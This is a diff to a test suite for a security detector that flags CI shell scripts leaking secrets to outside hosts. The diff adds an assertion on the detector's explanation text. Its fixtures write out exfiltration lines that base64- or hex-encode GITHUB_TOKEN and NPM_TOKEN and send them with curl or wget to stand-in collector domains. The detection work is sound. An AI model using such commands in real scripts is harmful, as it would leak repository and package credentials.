@@ -3865,7 +3865,9 @@ describe('suspicious-network-endpoint: a secret read from the environment and po
   });
   it('follows a shell variable that holds the secret, or what a command made of it, to the curl or wget line that sends it (since 2026-12-01)', () => {
     // The shape a replay's probe of a Rust crate's ci/ scripts missed: the token base64-encoded into a variable, then sent in a URL.
-    expect(sent('ci/tsan.sh', ['T=$(echo "$GITHUB_TOKEN" | base64 -w0)', 'curl -s "https://collect.metrics-relay.io/u?t=$T"'])?.severity).toBe('high');
+    const held = sent('ci/tsan.sh', ['T=$(echo "$GITHUB_TOKEN" | base64 -w0)', 'curl -s "https://collect.metrics-relay.io/u?t=$T"']);
+    expect(held?.severity).toBe('high');
+    expect(held?.detail).toContain('reads GITHUB_TOKEN from the environment (through $T, which an earlier line set from it)');
     expect(sent('ci/report.sh', ['export tok="${NPM_TOKEN}"', 'enc=$(printf %s "$tok" | xxd -p)', 'wget -q --post-data "t=$enc" https://metrics.build-insights.net/c'])?.severity).toBe('high');
   });
   it('is quiet when the held value goes to its own service, as a header, or holds nothing secret', () => {
